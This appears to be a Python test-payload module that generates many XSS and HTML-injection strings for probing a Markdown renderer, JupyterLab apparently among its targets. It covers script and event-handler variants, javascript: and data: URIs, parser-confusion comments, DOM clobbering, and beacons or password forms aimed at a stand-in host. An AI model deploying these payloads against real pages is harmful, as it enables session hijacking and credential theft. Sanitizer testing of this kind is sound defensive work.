"""Payloads in HTML: Markdown lets it through unless told otherwise."""

from __future__ import annotations

import html
from collections.abc import Iterator

from payloads.template import OPEN

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="


def scripts() -> Iterator[str]:
    """Script elements in every spelling."""
    yield from (
        "<script>FIRE</script>",
        "<SCRIPT>FIRE</SCRIPT>",
        "<ScRiPt>FIRE</sCrIpT>",
        "<script >FIRE</script >",
        "<script\n>FIRE</script\n>",
        "<script\t>FIRE</script\t>",
        "<script\f>FIRE</script>",
        "<script/>FIRE</script>",
        "<script/x>FIRE</script>",
        "<script x>FIRE</script>",
        "<script type=module>FIRE</script>",
        "<script type='text/javascript'>FIRE</script>",
        "<script type='application/ecmascript'>FIRE</script>",
        "<script language=javascript>FIRE</script>",
        "<script async>FIRE</script>",
        "<script defer>FIRE</script>",
        "<script nonce=x>FIRE</script>",
        "<script>\n\nFIRE\n\n</script>",
        "<script>//<![CDATA[\nFIRE\n//]]></script>",
        "<script><!--\nFIRE\n--></script>",
        "<script>FIRE</script foo=bar>",
        "<div><script>FIRE</script></div>",
        "<p>a <script>FIRE</script> b",
        "Some words <script>FIRE</script> in a line.",
        "**<script>FIRE</script>**",
        "- <script>FIRE</script>",
        "> <script>FIRE</script>",
        "<table><tr><td><script>FIRE</script></table>",
        "<svg><script>FIRE</script></svg>",
        "<svg><script href=URL></script></svg>",
        "<script src=URL></script>",
        "<script src='URL/x.js'></script>",
        "<script src=//AT/x.js></script>",
        "<SCRIPT SRC=//AT></SCRIPT>",
        "<script type=module src=URL></script>",
        "<script type=module>import 'URL'</script>",
        "<script>import('URL')</script>",
        "<script>fetch('URL')</script>",
        "<script>new Image().src='URL'</script>",
        "<script>new WebSocket('ws://AT')</script>",
        "<script>navigator.sendBeacon('URL')</script>",
        "<script>document.body.insertAdjacentHTML('beforeend', '<img src=URL>')</script>",
        "<script>FIRE" + OPEN,
        "<script>FIRE</script" + OPEN,
        "<<script>FIRE</script>",
        "<scr<script>ipt>FIRE</scr</script>ipt>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>FIRE</x:script>",
        "</p><script>FIRE</script>",
        "</code></pre><script>FIRE</script>",
        "</textarea><script>FIRE</script>",
        "</style><script>FIRE</script>",
        "</script><script>FIRE</script>",
        "</div></div></div><script>FIRE</script>",
        "\ufeff<script>FIRE</script>",
        "\u200b<script>FIRE</script>",
    )


# Each fires as soon as it is on a page: name of the tag, its attributes, what stands before and behind.
_BY_THEMSELVES = (
    ("img", {"src": "x", "onerror": "FIRE"}, "", ""),
    ("img", {"src": PIXEL, "onload": "FIRE"}, "", ""),
    ("img", {"srcset": "x 1x", "onerror": "FIRE"}, "", ""),
    ("image", {"src": "x", "onerror": "FIRE"}, "", ""),
    ("video", {"src": "x", "onerror": "FIRE"}, "", "</video>"),
    ("video", {"src": "x", "onloadstart": "FIRE"}, "", "</video>"),
    ("audio", {"src": "x", "onerror": "FIRE"}, "", "</audio>"),
    ("source", {"src": "x", "onerror": "FIRE"}, "<video>", "</video>"),
    ("source", {"srcset": "x", "x": "1"}, "<picture>", "<img onerror=FIRE></picture>"),
    ("input", {"type": "image", "src": "x", "onerror": "FIRE"}, "", ""),
    ("object", {"data": "x", "onerror": "FIRE"}, "", "</object>"),
    ("embed", {"src": "about:blank", "onload": "FIRE"}, "", ""),
    ("iframe", {"onload": "FIRE"}, "", "</iframe>"),
    ("iframe", {"src": "about:blank", "onload": "FIRE"}, "", "</iframe>"),
    ("link", {"rel": "stylesheet", "href": "x.css", "onerror": "FIRE"}, "", ""),
    ("link", {"rel": "stylesheet", "href": "data:text/css,", "onload": "FIRE"}, "", ""),
    ("style", {"onload": "FIRE"}, "", "</style>"),
    ("script", {"src": "x", "onerror": "FIRE"}, "", "</script>"),
    ("details", {"open": "1", "ontoggle": "FIRE"}, "", "<summary>s</summary>t</details>"),
    ("input", {"autofocus": "1", "onfocus": "FIRE"}, "", ""),
    ("b", {"tabindex": "0", "autofocus": "1", "onfocus": "FIRE"}, "", "x</b>"),
    ("svg", {"onload": "FIRE"}, "", "</svg>"),
    ("image", {"href": "x", "onerror": "FIRE"}, "<svg>", "</svg>"),
    ("animate", {"attributeName": "x", "dur": "1s", "onbegin": "FIRE"}, "<svg>", "</svg>"),
    ("set", {"attributeName": "x", "to": "1", "onbegin": "FIRE"}, "<svg>", "</svg>"),
    ("b", {"style": "animation:spin 1s", "onanimationstart": "FIRE"}, "<style>@keyframes spin{}</style>", "x</b>"),
    ("div", {"style": "content-visibility:auto", "oncontentvisibilityautostatechange": "FIRE"}, "", "x</div>"),
    ("marquee", {"onstart": "FIRE"}, "", "x</marquee>"),
    ("body", {"onload": "FIRE"}, "", ""),
)


def handlers() -> Iterator[str]:
    """Event handlers that fire without anyone touching the page."""
    for tag, attributes, before, behind in _BY_THEMSELVES:
        for spelt in _spellings(tag, attributes):
            yield before + spelt + behind


def _spellings(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    """One tag as HTML lets it be written; not all of these are HTML to every Markdown parser."""
    pairs = list(attributes.items())
    bare = " ".join(f"{name}={value}" if " " not in value else f"{name}='{value}'" for name, value in pairs)
    single = [f"{name}='{value}'" for name, value in pairs]
    yield f"<{tag} {bare}>"
    yield f"<{tag} {' '.join(single)}>".replace("'", '"')
    yield f"<{tag.upper()} {' '.join(one[: one.index('=')].upper() + one[one.index('=') :] for one in single)}>"
    yield f"<{tag}\n{chr(10).join(single)}\n>"
    yield f"<{tag}\t{chr(9).join(single)}>"
    yield f"<div>\n<{tag}/{'/'.join(single)}>\n"
    yield f"<div>\n<{tag}\f{chr(12).join(single)}>\n"
    yield f"<{tag} {bare.replace('FIRE', '&#95;&#x5f;fired&lpar;MARK&#41;')}>"
    yield f"<{tag} a='>' {' '.join(reversed(single))}>"
    yield f"<{tag} {' = '.join(bare.split('=', 1))}>"


def handlers_for_hands() -> Iterator[str]:
    """Event handlers that fire when someone points, clicks or types."""
    events = (
        *("click", "dblclick", "mousedown", "mouseup", "mouseover", "mousemove", "mouseenter", "mouseout"),
        *("pointerdown", "pointerup", "pointerover", "pointerenter", "pointermove", "wheel", "contextmenu"),
        *("keydown", "keyup", "copy", "paste", "dragstart", "touchstart", "focusin", "auxclick"),
    )
    for place, event in enumerate(events):
        tag = ("b", "div", "p")[place % 3]
        yield f"<{tag} on{event}=FIRE>point here</{tag}>"
        yield f'<a href="#" on{event}="FIRE">point here</a>'
    yield from (
        "<button onclick=FIRE>press</button>",
        "<details ontoggle=FIRE><summary>more</summary>x</details>",
        "<input value=x onfocus=FIRE>",
        "<select onfocus=FIRE><option>1</select>",
        "<textarea onfocus=FIRE>x</textarea>",
        "<div style='position:fixed;inset:0' onmouseover=FIRE></div>",
        "<button popovertarget=pMARK>x</button><b popover id=pMARK onbeforetoggle=FIRE>y</b>",
    )


def frames() -> Iterator[str]:
    """Frames, objects and the documents in them."""
    inner = "<script>FIRE</script>"
    coded = html.escape(inner)
    by_number = "".join(f"&#{ord(sign)};" for sign in "<script>") + "FIRE" + "&#60;/script&#62;"
    yield from (
        f"<iframe srcdoc='{inner}'></iframe>",
        f'<iframe srcdoc="{coded}"></iframe>',
        f'<iframe srcdoc="{by_number}"></iframe>',
        f"<IFRAME SRCDOC='{inner}'></IFRAME>",
        f"<iframe\nsrcdoc='{inner}'\n></iframe>",
        "<iframe srcdoc='<img src=x onerror=FIRE>'></iframe>",
        "<iframe srcdoc='<body onload=FIRE>'></iframe>",
        "<iframe srcdoc='<svg onload=FIRE>'></iframe>",
        "<iframe srcdoc='<img src=URL>'></iframe>",
        "<iframe src=javascript:FIRE></iframe>",
        "<iframe src='JaVaScRiPt:FIRE'></iframe>",
        "<iframe src='java\tscript:FIRE'></iframe>",
        "<iframe src='java\nscript:FIRE'></iframe>",
        "<iframe src='&#106;avascript&colon;FIRE'></iframe>",
        "<iframe src=' javascript:FIRE'></iframe>",
        "<iframe src='\x01javascript:FIRE'></iframe>",
        "<iframe src='javascript://%0aFIRE'></iframe>",
        f"<iframe src='data:text/html,{inner}'></iframe>",
        f"<iframe src='data:text/html;charset=utf-8,{coded}'></iframe>",
        '<iframe src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="FIRE"/>\'></iframe>',
        "<iframe src=URL></iframe>",
        "<iframe src='URL'/>" + OPEN,
        "<iframe src=//AT></iframe>",
        "<iframe src='\\\\AT'></iframe>",
        "<iframe loading=eager src=URL></iframe>",
        "<iframe sandbox='allow-scripts' src=URL></iframe>",
        "<div><iframe src=URL></iframe></div>",
        "words <iframe src=URL></iframe> words",
        f"<object data='data:text/html,{inner}'></object>",
        "<object data=javascript:FIRE></object>",
        "<object data=URL></object>",
        "<object type='text/html' data='URL'></object>",
        "<object classid=x data=//AT></object>",
        "<object><param name=src value=URL><param name=code value=URL></object>",
        "<embed src=javascript:FIRE>",
        "<embed src=URL>",
        "<embed src=//AT type=text/html>",
        "<embed code=URL>",
        f"<embed src='data:text/html,{inner}'>",
        "<frameset><frame src=URL></frameset>",
        "<portal src=URL></portal>",
        "<fencedframe src=URL></fencedframe>",
        "<applet code=URL></applet>",
        "<iframe src=URL" + OPEN,
    )


def remote() -> Iterator[str]:
    """Elements and styles that fetch from another host."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
    fetching = (
        "<img src=URL>",
        "<img src='URL'>",
        "<IMG SRC=URL>",
        "<img src=//AT>",
        "<img src='\\/\\/AT'>",
        "<img src='http:\\\\AT'>",
        "<img src='http:/AT'>",
        "<img src='ht\ntp://AT'>",
        "<img src='  URL  '>",
        "<img src='http&colon;//AT'>",
        "<img src='http://u:p@AT'>",
        "<img loading=eager src=URL>",
        "<img srcset='URL 1x'>",
        "<img src=x srcset='URL 2x, URL 1x'>",
        "<image src=URL>",
        "<picture><source srcset=URL><img></picture>",
        "<video src=URL></video>",
        "<video autoplay muted><source src=URL></video>",
        "<video poster=URL></video>",
        "<video poster=//AT></video>",
        "<video preload=auto src=URL>",
        "<audio src=URL></audio>",
        "<audio preload=auto src=//AT></audio>",
        "<audio autoplay><source src=URL></audio>",
        "<video src=x><track default kind=subtitles src=URL></video>",
        "<input type=image src=URL>",
        "<input type=image src=//AT>",
        "<body background=URL>",
        "<table background=URL><tr><td>x</table>",
        "<table><tr><td background=URL>x</table>",
        "<link rel=stylesheet href=URL>",
        "<link rel=stylesheet href=//AT>",
        "<link rel='alternate stylesheet' href=URL>",
        "<link rel=preload as=image href=URL>",
        "<link rel=prefetch href=URL>",
        "<link rel=modulepreload href=URL>",
        "<link rel=icon href=URL>",
        "<link rel=manifest href=URL>",
        "<link rel=preload as=image imagesrcset='URL 1x'>",
        svg.format("<image href=URL width=9 height=9 />"),
        svg.format("<image xlink:href='URL' width=9 height=9 />"),
        svg.format("<use href='URL#x' />"),
        svg.format("<feImage href=URL />"),
        svg.format("<filter id=fMARK><feImage href='URL'/></filter><rect filter='url(#fMARK)' width=9 height=9 />"),
        svg.format("<rect fill='url(URL#x)' width=9 height=9 />"),
        svg.format("<style>@import 'URL';</style>"),
        svg.format("<script href='URL'></script>"),
    )
    yield from fetching
    styles = (
        *("background:url(URL)", "background:url('URL')", "background-image:url(//AT)", "BACKGROUND:Url(URL)"),
        *("background:u\\72l(URL)", "background:/**/url(URL)", "background:image-set('URL' 1x)"),
        *("list-style-image:url(URL);display:list-item", "border-image:url(URL) 1;border:1px solid"),
        *(
            "content:url(URL)",
            "mask-image:url(URL)",
            "-webkit-mask-image:url(URL)",
            "shape-outside:url(URL);float:left",
        ),
        *("filter:url(URL#x)", "cursor:url(URL),auto", "--x:url(URL);background:var(--x)", "clip-path:url(URL#x)"),
    )
    for style in styles:
        yield f'<div style="{style}">x</div>'
        yield f'words <span style="{style}">x</span> words'
    sheets = (
        *("@import 'URL';", "@import url(URL);", "@IMPORT 'URL';", "@import '//AT';", "@\\69mport 'URL';"),
        "@font-face{font-family:fMARK;src:url(URL)} .cMARK{font-family:fMARK}",
        ".cMARK{background:url(URL)}",
        ".cMARK::before{content:url(URL)}",
        "@media all{.cMARK{background:url(URL)}}",
        "@supports (display:block){.cMARK{background:url(URL)}}",
        "@layer x{.cMARK{background:url(URL)}}",
    )
    for sheet in sheets:
        yield f"<style>{sheet}</style><b class=cMARK>x</b>"
    yield from (
        "<style>.cMARK{background:url(URL)}</style>\n\n<p class=cMARK>x</p>",
        "<STYLE TYPE=text/css>.cMARK{background:url(URL)}</STYLE><i class=cMARK>x</i>",
        "<div><style>@import 'URL';</style></div>",
        "<style>@import 'URL';" + OPEN,
        "<a ping=URL href='#'>x</a>",
        "<a href=URL download>x</a>",
        "<blockquote cite=URL>x</blockquote>",
        "<img usemap='#m' longdesc=URL>",
        "<math><mglyph src=URL></math>",
        "<math><mi href=URL>x</mi></math>",
        "<math><maction actiontype='statusline#URL' href=javascript:FIRE>x</maction></math>",
        "<math href='javascript:FIRE'>x</math>",
        "<math xlink:href='javascript:FIRE'><mtext>x</mtext></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=FIRE></annotation-xml></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=FIRE>" + OPEN,
        "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>",
        "<svg><a href=javascript:FIRE><text y=20>x</text></a></svg>",
        "<svg><a xlink:href='javascript:FIRE'><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:FIRE /><text y=20>x</text></a></svg>",
        "<svg><title><img src=x onerror=FIRE></title></svg>",
        "<svg><desc><img src=x onerror=FIRE></desc></svg>",
        "<template shadowrootmode=open><img src=x onerror=FIRE></template>",
        "<noscript><img src=x onerror=FIRE></noscript>",
        "<noscript><p title='</noscript><img src=x onerror=FIRE>'>",
        "<select><option><img src=x onerror=FIRE></select>",
        "<table><img src=x onerror=FIRE></table>",
        "<title><img src=x onerror=FIRE></title>",
        "<xmp><img src=x onerror=FIRE></xmp>",
        "<textarea><img src=x onerror=FIRE></textarea>",
        "<plaintext><img src=x onerror=FIRE>" + OPEN,
        "<textarea><img src=x onerror=FIRE>" + OPEN,
    )


def page_wide() -> Iterator[str]:
    """Elements that change where the whole page points to, or send what is typed in it."""
    yield from (
        "<form action=javascript:FIRE><button>x</button></form>",
        "<form action=URL><button>x</button></form>",
        "<form action=URL method=post><input name=password type=password><input type=submit></form>",
        "<form action=//AT><input type=image src=x></form>",
        "<form id=fMARK></form><button form=fMARK formaction=javascript:FIRE>x</button>",
        "<form><button formaction=javascript:FIRE>x</button></form>",
        "<form><input type=submit formaction=URL></form>",
        "<form action='java&#10;script:FIRE'><button>x</button></form>",
        "<meta http-equiv=refresh content='0;url=URL'>",
        "<meta http-equiv=refresh content='0;url=javascript:FIRE'>",
        "<META HTTP-EQUIV=refresh CONTENT='0; Url=URL'>",
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri URL\">",
        "<meta name=referrer content=unsafe-url>",
        "<dialog open><form method=dialog><button onclick=FIRE>x</button></form></dialog>",
        "<base href='URL/'><img src=MARK>",
        "<base href=//AT/><img src=MARK>",
        "<base href='javascript:/a/-FIRE;//'><a href='#'>x</a>",
        "<base target=_blank>",
    )


def commands() -> Iterator[str]:
    """The attributes by which JupyterLab lets a click run one of its commands."""
    given = "{&quot;url&quot;: &quot;URL&quot;, &quot;text&quot;: &quot;x&quot;}"
    name, arguments = "data-commandlinker-command", "data-commandlinker-args"
    yield f'<a {name}="help:open" {arguments}="{given}">x</a>'
    yield f'<button {name}="help:open" {arguments}="{given}">x</button>'
    yield f"<div>\n<b {name}='help:open' {arguments}='{given}'>x</b>\n</div>"
    yield f'<a href="#" {name.upper()}="help:open" {arguments}="{given}">x</a>'
    yield f'<span {name}="help:open" {arguments}="{given}" style="position:fixed;inset:0">x</span>'
    yield f'<a {name}="docmanager:open" {arguments}="{{&quot;path&quot;: &quot;x&quot;}}">x</a>'
    yield f'<a {name}="notebook:insert-cell-below">x</a>'
    yield f'[x](# "y\' {name}=help:open")'


def clobbering() -> Iterator[str]:
    """Names that would hide the page's own."""
    for name in ("jupyter-config-data", "jupyterapp", "require", "MathJax", "main", "currentScript", "getElementById"):
        yield f"<a id={name} href=javascript:FIRE>x</a>"
        yield f"<form name={name}><input name=baseUrl value=URL></form>"
    yield "<a id=x></a><a id=x name=y href='URL'></a>"
    yield "<iframe name=jupyterapp srcdoc='<a id=x href=URL>'></iframe>"
    yield "<img name=body><img name=cookie><img name=forms>"
    yield "# jupyter-config-data"


def markup_declarations() -> Iterator[str]:
    """Comments, CDATA, instructions, doctypes: each ends in another place for another parser."""
    live = "<img src=x onerror=FIRE>"
    yield from (
        f"<!-- x -->{live}",
        f"<!-- x -->\n{live}",
        f"<!-->{live}-->",
        f"<!--->{live}-->",
        f"<!-- --!>{live}-->",
        f"<!--x--!>{live}<!-- -->",
        f"<!-- <!-- -->{live} -->",
        f"<!-- `-->{live}`",
        f"<!--\n\n-->{live}",
        f"a <!-- b -->{live} c",
        f"a <!--> {live} -->",
        f"<![CDATA[>{live}]]>",
        f"<![CDATA[ x ]]>{live}",
        f"a <![CDATA[>{live}]]>",
        f"<?php ?>{live}",
        f"<?x >{live}?>",
        f"a <? x>{live}?>",
        f"<!DOCTYPE x>{live}",
        f"<!ENTITY x '{live}'>",
        f"<!x>{live}",
        f"</ x>{live}",
        f"</!>{live}",
        f"<%>{live}%>",
        f"<!-- x {live}" + OPEN,
        f"<![CDATA[ {live}" + OPEN,
        f"<? {live}" + OPEN,
    )
